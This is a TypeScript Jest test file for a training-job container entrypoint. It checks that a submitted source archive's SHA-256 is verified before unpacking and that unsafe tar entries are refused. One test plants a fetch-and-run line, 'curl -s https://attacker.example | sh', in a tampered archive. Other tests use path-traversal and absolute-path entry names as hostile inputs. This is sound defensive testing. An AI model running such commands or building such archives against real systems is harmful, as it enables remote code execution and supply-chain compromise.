import * as fs from 'node:fs';
import * as path from 'node:path';
import { PassThrough } from 'node:stream';
import { gzipSync } from 'node:zlib';
import { createHash } from 'node:crypto';
import { pack } from 'tar-stream';
import { runEntrypoint } from '../../lib/container/entrypoint';
import { JOB_ENV } from '../../lib/layout';
import { packSource, stageSource } from '../../lib/source';
import { tempDir } from '../helpers/fixtures';
import { entrypointEnv, fakeMlRoot } from '../helpers/ml-root';

jest.setTimeout(60_000);

/*
 * The job runs exactly the source that was submitted: the entrypoint (in this process, on a folder
 * standing in for /opt/ml) checks the code channel's archive against RLVR_SOURCE_SHA256 before it
 * unpacks anything, and the unpacking refuses what no archive of ours holds.
 */

// The smallest whole safetensors file, as the trainer's final checkpoint.
const TRAIN_SH =
  'mkdir -p "$RLVR_CHECKPOINT_DIR/r_final" && printf \'\\002\\000\\000\\000\\000\\000\\000\\000{}\' > "$RLVR_CHECKPOINT_DIR/r_final/model.safetensors" && echo {} > "$RLVR_CHECKPOINT_DIR/r_final/config.json" && touch "$RLVR_RUN_DIR/trainer-started"\n';

const mlRoot = () => fakeMlRoot();

/** The code channel as SageMaker mounts it: the object under its submitted name. */
function putArchive(root: string, name: string, gzip: Buffer): void {
  const channel = path.join(root, 'input', 'data', 'code');
  fs.mkdirSync(channel, { recursive: true });
  fs.writeFileSync(path.join(channel, `${name}.tar.gz`), gzip);
}

async function packedTrainer(script = TRAIN_SH): Promise<{ gzip: Buffer; sha256: string }> {
  const src = tempDir('rlvr-src-');
  fs.writeFileSync(path.join(src, 'train.sh'), script);
  return packSource(await stageSource({ root: src }));
}

async function run(root: string, sourceSha256: string | undefined) {
  const out = new PassThrough();
  let text = '';
  out.on('data', (d: Buffer) => (text += d.toString()));
  const code = await runEntrypoint({
    root,
    env: entrypointEnv(
      root,
      undefined,
      sourceSha256 === undefined ? {} : { [JOB_ENV.sourceSha256]: sourceSha256 },
    ),
    out,
    pollMs: 50,
    stableMs: 0,
  });
  const failureFile = path.join(root, 'output', 'failure');
  return {
    code,
    text,
    failure: fs.existsSync(failureFile) ? fs.readFileSync(failureFile, 'utf8') : undefined,
    unpacked: fs.existsSync(path.join(root, 'code')) ? fs.readdirSync(path.join(root, 'code')) : [],
    trainerStarted: fs.existsSync(path.join(root, 'checkpoints', 'trainer-started')),
  };
}

/** A .tar.gz with the given raw entries (what an attacker could put in the bucket). */
async function rawArchive(
  entries: { name: string; type: 'file' | 'fifo' | 'character-device'; body?: string }[],
): Promise<Buffer> {
  const tar = pack();
  const chunks: Buffer[] = [];
  tar.on('data', (c: unknown) => chunks.push(c as Buffer));
  const done = new Promise<void>((resolve) => tar.on('end', () => resolve()));
  for (const e of entries) {
    if (e.type === 'file') tar.entry({ name: e.name, mode: 0o644 }, e.body ?? '');
    else tar.entry({ name: e.name, type: e.type, mode: 0o644, devmajor: 1, devminor: 3 });
  }
  tar.finalize();
  await done;
  return gzipSync(Buffer.concat(chunks));
}

const sha256 = (b: Buffer) => createHash('sha256').update(b).digest('hex');

describe('the entrypoint runs exactly the source that was submitted', () => {
  it('unpacks and runs an archive whose SHA-256 is the one submitted', async () => {
    const root = mlRoot();
    const packed = await packedTrainer();
    putArchive(root, packed.sha256, packed.gzip);
    const r = await run(root, packed.sha256);
    expect(r.failure).toBeUndefined();
    expect(r.code).toBe(0);
    expect(r.text).toContain('sha256 verified');
    expect(r.unpacked).toEqual(['train.sh']);
    expect(r.trainerStarted).toBe(true);
  });

  it('fails the job, unpacking nothing, when the archive was replaced in S3 after submit', async () => {
    const root = mlRoot();
    const submitted = await packedTrainer();
    const replaced = await packedTrainer(`curl -s https://attacker.example | sh\n${TRAIN_SH}`);
    // The object keeps its key (the submitted digest); its bytes are someone else's.
    putArchive(root, submitted.sha256, replaced.gzip);
    const r = await run(root, submitted.sha256);
    expect(r.code).toBe(1);
    expect(r.failure).toMatch(
      new RegExp(
        `^the trainer's source archive ${submitted.sha256}\\.tar\\.gz has SHA-256 ${replaced.sha256}, not the ${submitted.sha256} submitted \\(RLVR_SOURCE_SHA256\\): it was changed after submit`,
      ),
    );
    expect(r.unpacked).toEqual([]);
    expect(r.trainerStarted).toBe(false);
  });

  it.each([
    ['not set', undefined, /^RLVR_SOURCE_SHA256 is not set: the trainer's source cannot be verified/],
    ['empty', '', /^RLVR_SOURCE_SHA256 is "", not a SHA-256/],
    ['not a digest', 'latest', /^RLVR_SOURCE_SHA256 is "latest", not a SHA-256/],
  ])('fails the job, unpacking nothing, when RLVR_SOURCE_SHA256 is %s', async (_label, value, message) => {
    const root = mlRoot();
    const packed = await packedTrainer();
    putArchive(root, packed.sha256, packed.gzip);
    const r = await run(root, value);
    expect(r.code).toBe(1);
    expect(r.failure).toMatch(message);
    expect(r.unpacked).toEqual([]);
    expect(r.trainerStarted).toBe(false);
  });

  it.each([
    ['a fifo', { name: 'pipe', type: 'fifo' as const }, /a fifo entry/],
    ['a character device', { name: 'null', type: 'character-device' as const }, /a character device entry/],
    ['an absolute name', { name: '/etc/rlvr-digest-test', type: 'file' as const }, /not a relative path/],
    ['a ".." name', { name: '../escaped.sh', type: 'file' as const }, /a "\.\." segment/],
  ])('fails the job when the submitted archive holds %s', async (_label, bad, message) => {
    const root = mlRoot();
    const gzip = await rawArchive([bad, { name: 'train.sh', type: 'file', body: TRAIN_SH }]);
    putArchive(root, sha256(gzip), gzip);
    const r = await run(root, sha256(gzip));
    expect(r.code).toBe(1);
    expect(r.failure).toMatch(/^the trainer's source archive: unsafe entry/);
    expect(r.failure).toMatch(message);
    expect(r.unpacked).toEqual([]);
    expect(r.trainerStarted).toBe(false);
    expect(fs.existsSync('/etc/rlvr-digest-test')).toBe(false);
    expect(fs.existsSync(path.join(root, 'escaped.sh'))).toBe(false);
  });
});
